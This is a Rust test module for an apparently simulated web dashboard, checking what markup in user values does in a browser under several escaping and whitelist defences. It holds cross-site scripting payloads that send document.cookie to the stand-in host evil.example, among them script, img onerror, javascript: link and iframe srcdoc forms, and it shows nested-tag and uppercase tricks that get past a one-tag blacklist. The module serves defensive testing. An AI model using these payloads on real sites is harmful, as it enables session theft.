//! Pages: what markup in a value does in a browser, and what each defence leaves of it.

use proptest::prelude::*;

use super::*;
use crate::backend::{Sent, contains};

const SESSION: Canary = Canary([0x5A; 16]);

fn shown(escaping: Escaping, validation: Validation, slot: Slot, value: &str) -> Interpretation {
    Dashboard::new(escaping, validation, SESSION).show(slot, value).unwrap()
}

fn level(escaping: Escaping, slot: Slot, value: &str) -> Level {
    shown(escaping, Validation::None, slot, value).level
}

const STEAL: &str = "<script>fetch('//evil.example/?'+document.cookie)</script>";
const IMAGE: &str = "<img src=x onerror=\"fetch('//evil.example/?'+document.cookie)\">";

#[test]
fn levels_are_told_apart() {
    let raw = |value| level(Escaping::None, Slot::Content, value);
    assert_eq!(raw("21 degrees"), Level::Equal);
    assert_eq!(raw("<b>21</b>"), Level::Structure);
    assert_eq!(raw("&copy;"), Level::Structure);
    assert_eq!(raw("<form action=//evil.example><input name=pin>"), Level::Effect);
    assert_eq!(raw("<script>nonsense</script>"), Level::Effect);
    assert_eq!(raw("<script>alert(1)</script>"), Level::Goal);
    assert_eq!(raw(STEAL), Level::Goal);
}

#[test]
fn the_attacker_receives_the_session() {
    for (slot, value) in [
        (Slot::Content, STEAL),
        (Slot::Search, STEAL),
        (Slot::Content, IMAGE),
        (Slot::Fragment, IMAGE),
        (Slot::Name, "\" onmouseover=\"fetch('//evil.example/?'+document.cookie)"),
        (Slot::Name, "</td></tr></table><svg onload=fetch('//evil.example/?'+document.cookie)>"),
        (Slot::Link, "javascript:fetch('//evil.example/?'+document.cookie)"),
        (Slot::Link, " java\nscript:fetch('//evil.example/?'+document.cookie)"),
        (
            Slot::Content,
            "<iframe srcdoc=\"<script>fetch('//evil.example/?'+document.cookie)</script>\">",
        ),
    ] {
        let shown = shown(Escaping::None, Validation::None, slot, value);
        assert_eq!(shown.level, Level::Goal, "{value}");
        let bytes = format!("/?session={}", SESSION.text()).into_bytes();
        assert_eq!(shown.sent, [Sent { host: "evil.example".to_owned(), bytes }], "{value}");
    }
}

#[test]
fn a_blacklist_of_one_tag_is_none() {
    assert_ne!(level(Escaping::OneTag, Slot::Content, STEAL), Level::Goal);
    assert_eq!(level(Escaping::OneTag, Slot::Content, IMAGE), Level::Goal);
    let nested =
        STEAL.replace("<script>", "<scr<script>ipt>").replace("</script>", "</scr</script>ipt>");
    assert_eq!(level(Escaping::OneTag, Slot::Content, &nested), Level::Goal);
    let upper = STEAL.replace("script", "SCRIPT");
    assert_eq!(level(Escaping::OneTag, Slot::Content, &upper), Level::Goal);
}

#[test]
fn escaping_must_know_its_context() {
    let link = "javascript:fetch('//evil.example/?'+document.cookie)";
    assert_eq!(level(Escaping::Markup, Slot::Content, STEAL), Level::Equal);
    assert_eq!(level(Escaping::Markup, Slot::Link, link), Level::Goal);
    let held = shown(Escaping::Contextual, Validation::None, Slot::Link, link);
    assert_eq!((held.level, held.refusal), (Level::Equal, Some(SCHEME)));
    let held = shown(Escaping::Contextual, Validation::None, Slot::Content, STEAL);
    assert_eq!((held.level, held.refusal), (Level::Equal, Some(ESCAPED)));
    let honest = shown(Escaping::Contextual, Validation::None, Slot::Name, "O'Brien");
    assert_eq!((honest.level, honest.refusal), (Level::Equal, None));
}

#[test]
fn a_whitelist_refuses_before_the_page() {
    for (slot, value) in [(Slot::Content, STEAL), (Slot::Name, IMAGE), (Slot::Search, "&lt;b")] {
        let held = shown(Escaping::None, Validation::Whitelist, slot, value);
        assert_eq!(held.refusal.unwrap().mechanism, "whitelist");
        assert!(held.answer.is_empty() && held.sent.is_empty());
    }
    let honest = shown(Escaping::None, Validation::Whitelist, Slot::Name, "O'Brien");
    assert_eq!((honest.level, honest.refusal), (Level::Equal, None));
    assert!(contains(&honest.answer, b"O'Brien"));
}

#[test]
fn a_script_that_writes_markup_undoes_what_the_server_escapes() {
    for escaping in [Escaping::None, Escaping::OneTag, Escaping::Markup] {
        assert_eq!(level(escaping, Slot::Fragment, IMAGE), Level::Goal, "{escaping:?}");
        assert_eq!(level(escaping, Slot::Fragment, "O'Brien & Sons"), Level::Equal);
    }
    let held = shown(Escaping::Contextual, Validation::None, Slot::Fragment, IMAGE);
    assert_eq!((held.level, held.refusal), (Level::Equal, Some(ESCAPED)));
    assert!(held.sent.is_empty());
}

#[test]
fn a_script_element_that_a_script_writes_does_not_run() {
    assert_eq!(level(Escaping::None, Slot::Fragment, STEAL), Level::Structure);
    let inside = format!("<iframe srcdoc=\"{}\">", STEAL.replace('"', "&quot;"));
    assert_eq!(level(Escaping::None, Slot::Fragment, &inside), Level::Goal);
}

const MARKUP: &str = r#"(.|[<>"'&/=;:%#!-]|script|onload=alert\(1\)|javascript:alert\(1\)|--|&lt|%3c|style|td|\]\]>){0,20}"#;

fn slots() -> impl Strategy<Value = Slot> {
    prop_oneof![
        Just(Slot::Name),
        Just(Slot::Content),
        Just(Slot::Link),
        Just(Slot::Search),
        Just(Slot::Fragment)
    ]
}

proptest! {
    #[test]
    fn contextual_escaping_keeps_any_text(slot in slots(), value in MARKUP) {
        prop_assert_eq!(level(Escaping::Contextual, slot, &value), Level::Equal);
    }

    #[test]
    fn what_passes_the_whitelist_is_never_active(slot in slots(), value in MARKUP) {
        let shown = shown(Escaping::None, Validation::Whitelist, slot, &value);
        prop_assert!(shown.level < Level::Effect, "{:?}", shown.level);
    }
}
